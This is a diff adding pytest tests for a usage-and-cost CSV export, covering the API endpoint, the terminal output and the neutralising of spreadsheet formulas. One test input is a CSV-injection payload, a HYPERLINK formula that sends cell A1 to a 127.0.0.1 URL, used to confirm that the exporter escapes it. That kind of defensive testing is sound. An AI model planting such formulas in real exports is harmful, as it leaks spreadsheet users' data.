@@ -1,11 +1,17 @@
 """What do people see of tokens and cost, over the API and in the terminal?"""
 
+import csv
+import io
 from datetime import UTC, datetime, timedelta
+from decimal import Decimal
 from pathlib import Path
 from typing import Any
 
 import pytest
 
+from quarterdeck.actions.usage import Line, Report
+from quarterdeck.actions.usage_csv import lines
+from quarterdeck.store.usage import Sums
 from tests.doors.commands import SCRIPTED, Desk
 from tests.doors.running import Running
 from tests.doors.test_api_sessions import answered, begin, write
@@ -59,6 +65,38 @@ async def test_usage_is_summed_by_what_is_named(gateway: Running) -> None:
     assert 'quarterdeck_tokens_total{kind="output",model="help",provider="script"}' in text
 
 
+async def test_a_spreadsheet_has_all_lines_and_the_same_sums(gateway: Running) -> None:
+    token = await gateway.token("chat", "read")
+    await ask(gateway, token, "default")
+    await ask(gateway, token, "slow")
+    found = await usage(gateway, token, "group=person,connection,model&limit=1")
+    said = await gateway.call("GET", "/api/v1/usage.csv?group=person,connection,model", token=token)
+    assert (said.status, said.headers["content-type"]) == (200, "text/csv; charset=utf-8")
+    assert said.headers["content-disposition"] == 'attachment; filename="usage.csv"'
+    rows = list(csv.DictReader(io.StringIO(said.body.decode(), newline="")))
+    assert len(rows) == len(found["lines"]) + found["left_out"] == 2
+    assert sum(int(row["calls"]) for row in rows) == found["total"]["calls"]
+    assert sum(int(row["input"]) for row in rows) == found["total"]["tokens"]["input"]
+    costs = {cost["currency"]: cost["units"] for cost in found["total"]["cost"]}
+    for currency, units in costs.items():
+        assert sum(Decimal(row[f"cost_{currency}"] or 0) for row in rows) * 10**9 == units
+    assert {row["connection"] for row in rows} == {"web"}
+    wrong = await gateway.call("GET", "/api/v1/usage.csv?group=colour", token=token)
+    assert (wrong.status, wrong.json()["field"]) == (400, "group")
+    assert (await gateway.call("GET", "/api/v1/usage.csv", token=await gateway.token("chat"))).status == 403
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
+def test_no_cell_is_a_formula(start: str) -> None:
+    name = f'{start}HYPERLINK("http://127.0.0.1/?"&A1,"x")'
+    one = Line((name, "plain"), Sums(calls=1, amount=5), {"EUR": 5})
+    sheet = "".join(lines(Report(("model", "assistant"), 0.0, 1.0, [one], one)))
+    heading, row = csv.reader(io.StringIO(sheet, newline=""))
+    assert row[0] == f"'{name}"
+    assert dict(zip(heading, row, strict=True))["cost_EUR"] == "0.000000005"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in row)
+
+
 async def test_a_range_has_days_where_people_live(gateway: Running) -> None:
     token = await gateway.token("chat", "read")
     await ask(gateway, token, "default")
@@ -108,6 +146,11 @@ async def test_usage_in_the_terminal_and_a_price_that_changes_while_it_runs(tmp_
         wrong = await desk.run("usage", "--by", "colour")
         assert (wrong.code, "colour" in wrong.err) == (2, True)
     assert await desk.rows("usage", "--by", "day,person") == beside
+    sheet = (await desk.run("usage", "--by", "day,person", "--csv")).out.splitlines()
+    assert sheet[0] == "day,person,calls,estimated,unpriced,input,cached,cache_write,output,reasoning,cost_USD"
+    assert [row.split(",")[:3] for row in sheet[1:]] == [
+        [str(row["day"]), str(row["person"]), str(row["calls"])] for row in beside[:-1]
+    ]
     table = (await desk.run("usage")).out.splitlines()
     assert table[0].split() == ["DAY", "MODEL", "CALLS", "INPUT", "CACHED", "OUTPUT", "COST", "UNPRICED", "ESTIMATED"]
     assert table[-1].startswith("all together")
